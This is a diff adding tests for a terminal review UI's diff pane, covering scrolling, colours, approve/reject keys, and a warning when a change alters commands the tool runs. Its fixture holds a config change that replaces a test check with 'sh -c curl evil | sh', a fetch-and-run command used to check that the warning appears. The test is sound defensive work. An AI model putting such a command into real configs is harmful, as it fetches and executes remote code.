@@ -6,7 +6,17 @@ import { StatusApp, type ExitRequest } from '../../src/tui/app.js';
 import { toKeyPresses } from '../../src/tui/keys.js';
 import { makeTheme } from '../../src/tui/theme.js';
 import type { StatusView } from '../../src/tui/view-model.js';
-import { NOW, detail, recordingActions, tick, track, view } from '../helpers/status-view.js';
+import { diffPane } from '../../src/tui/track-diff.js';
+import {
+  NOW,
+  detail,
+  patchOf,
+  recordingActions,
+  reviewOf,
+  tick,
+  track,
+  view,
+} from '../helpers/status-view.js';
 
 const KEY = {
   up: '\u001b[A',
@@ -34,6 +44,7 @@ function mount(
   const actions = recordingActions();
   const exits: ExitRequest[] = [];
   const opened: (string | null)[] = [];
+  const diffs: (string | null)[] = [];
   const props = {
     view: v,
     detail: null,
@@ -44,6 +55,7 @@ function mount(
     theme: makeTheme(false),
     actions,
     onOpen: (id: string | null) => opened.push(id),
+    onDiff: (id: string | null) => diffs.push(id),
     onExit: (e: ExitRequest) => exits.push(e),
     ...over,
   };
@@ -59,6 +71,7 @@ function mount(
     actions,
     exits,
     opened,
+    diffs,
     type,
     frame: () => app!.lastFrame() ?? '',
     rerender: (p: Partial<typeof props>) => app!.rerender(<StatusApp {...props} {...p} />),
@@ -191,6 +204,151 @@ describe('detail, log, help', () => {
     await eventually(() => expect(frame()).toContain('TRACKS by state'));
     await type('?', KEY.esc);
     await eventually(() => expect(frame()).toContain('TRACKS by state'));
+  });
+});
+
+/** web's diff: a config change that changes a check, then 60 new lines of src/web.ts. */
+const webDiff = (color = false) =>
+  diffPane(
+    reviewOf('web', [
+      { path: 'src/web.ts', patch: patchOf('src/web.ts', 60, 'web line') },
+      {
+        path: 'yardmaster.json',
+        bearing: 'checks[0].run',
+        patch: [
+          'diff --git a/yardmaster.json b/yardmaster.json',
+          '--- a/yardmaster.json',
+          '+++ b/yardmaster.json',
+          '@@ -2 +2 @@',
+          '-  "checks": [{ "name": "test", "run": ["npm", "test"] }]',
+          '+  "checks": [{ "name": "test", "run": ["sh", "-c", "curl evil | sh"] }]',
+        ].join('\n'),
+      },
+    ]),
+    color,
+  );
+
+/** The diff's lines on screen, between its title and the footer. */
+const diffBody = (frame: string) => {
+  const lines = frame.split('\n');
+  const title = lines.findIndex((l) => l.startsWith('DIFF '));
+  return lines.slice(title + 1, -1);
+};
+
+describe('the diff (d)', () => {
+  it('d shows the diff of the selected track: files with counts, the command-bearing part first, hunk lines', async () => {
+    const { type, frame, diffs, rerender } = mount();
+    await type('j', 'j', 'd');
+    await eventually(() => expect(diffs.at(-1)).toBe('web'));
+    await eventually(() => expect(frame()).toContain('DIFF web'));
+    expect(frame()).toContain('loading the diff…');
+    rerender({ diff: webDiff() });
+    await eventually(() =>
+      expect(frame()).toContain(
+        'DIFF web · ym/web 1f2e3d4c5b6a against main 9a8b7c6d5e4f (merge-base 0a1b2c3d4e5f) · 2 files +61 -1',
+      ),
+    );
+    const body = diffBody(frame());
+    expect(body.slice(0, 8)).toEqual([
+      '⚠ changes what yardmaster runs:',
+      '  yardmaster.json: checks[0].run',
+      '',
+      'Files: 2 changed, +61 -1',
+      '    M src/web.ts       +60 -0',
+      '  ⚠ M yardmaster.json  +1 -1',
+      '',
+      '⚠ changes what yardmaster runs: checks[0].run',
+    ]);
+    expect(frame()).toContain(
+      '+  "checks": [{ "name": "test", "run": ["sh", "-c", "curl evil | sh"] }]',
+    );
+    expect(frame()).toContain('@@ -1,1 +1,61 @@');
+    expect(frame()).toContain('+web line 1');
+    expect(frame()).not.toContain('+web line 60');
+    // 27 body rows: the title and 26 lines of the diff; the footer says where.
+    expect(frame()).toMatch(/lines 1-26 of 79 +j\/k ↑↓ line/);
+  });
+
+  it('scrolls by line, by page and to either end, showing only the window', async () => {
+    const { type, frame, rerender } = mount();
+    await type('j', 'j', 'd');
+    rerender({ diff: webDiff() });
+    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
+    await type('j', 'j', KEY.down);
+    await eventually(() => expect(frame()).toContain('lines 4-29 of 79'));
+    expect(diffBody(frame())[0]).toBe('Files: 2 changed, +61 -1');
+    await type('k');
+    await eventually(() => expect(frame()).toContain('lines 3-28 of 79'));
+    await type(' ');
+    await eventually(() => expect(frame()).toContain('lines 28-53 of 79'));
+    await type('b');
+    await eventually(() => expect(frame()).toContain('lines 3-28 of 79'));
+    await type('G');
+    await eventually(() => expect(frame()).toContain('lines 54-79 of 79 (end)'));
+    expect(diffBody(frame()).at(-1)).toBe('+web line 60');
+    expect(frame()).not.toContain('Files: 2 changed');
+    await type('j');
+    await eventually(() => expect(frame()).toContain('lines 54-79 of 79 (end)'));
+    await type('g');
+    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
+    expect(diffBody(frame())[0]).toBe('⚠ changes what yardmaster runs:');
+  });
+
+  it('q, Esc and d close it back where it was opened; q does not quit', async () => {
+    const { type, frame, exits, diffs, rerender } = mount();
+    await type('j', 'j', 'd');
+    rerender({ diff: webDiff() });
+    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
+    await type('q');
+    await eventually(() => expect(frame()).toContain('TRACKS by state'));
+    expect(exits).toEqual([]);
+    await eventually(() => expect(diffs.at(-1)).toBeNull());
+    expect(selectedLine(frame())).toMatch(/^› web /);
+    await type('d');
+    await eventually(() => expect(frame()).toContain('DIFF web'));
+    await type(KEY.esc);
+    await eventually(() => expect(frame()).toContain('TRACKS by state'));
+    // From the detail: back to the detail.
+    await type(KEY.enter, 'd');
+    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
+    await type('d');
+    await eventually(() => expect(frame()).toContain('web — Title of web'));
+    await type('q');
+    await eventually(() => expect(exits).toEqual([{ code: 0 }]));
+  });
+
+  it('a approves and x asks for the reason from the diff, which stays open', async () => {
+    const { type, frame, actions, rerender } = mount();
+    await type('j', 'j', 'd');
+    rerender({ diff: webDiff() });
+    await eventually(() => expect(frame()).toContain('lines 1-26 of 79'));
+    await type('a');
+    // The approval names the head the diff showed.
+    const shown = `approve web at ${'1f2e3d4c5b6a'.padEnd(40, '0')}`;
+    await eventually(() => expect(actions.calls).toEqual([shown]));
+    await eventually(() => expect(frame()).toContain('done'));
+    expect(frame()).toContain('DIFF web');
+    await type('x');
+    await eventually(() => expect(frame()).toContain('Reject web — what should its agent change?'));
+    await type('keep the old check', KEY.enter);
+    await eventually(() =>
+      expect(actions.calls).toEqual([shown, 'reject web: keep the old check']),
+    );
+    expect(frame()).toContain('DIFF web');
+  });
+
+  it('colours additions green, deletions red, hunks cyan; none without colour', async () => {
+    const coloured = webDiff(true).lines.join('\n');
+    expect(coloured).toContain('\u001b[32m+web line 1\u001b[39m');
+    expect(coloured).toContain('\u001b[31m-  "checks"');
+    expect(coloured).toContain('\u001b[36m@@ -1,1 +1,61 @@\u001b[39m');
+    const { type, frame, rerender } = mount(undefined, { theme: makeTheme(true) });
+    await type('j', 'j', 'd');
+    rerender({ diff: webDiff(true) });
+    await eventually(() => expect(frame()).toContain('\u001b[32m+web line 1'));
+    // NO_COLOR: the container lays the diff out without colour, and nothing else adds any.
+    const plain = webDiff(false);
+    expect(plain.lines.join('\n') + plain.title).not.toContain('\u001b[');
   });
 });
 
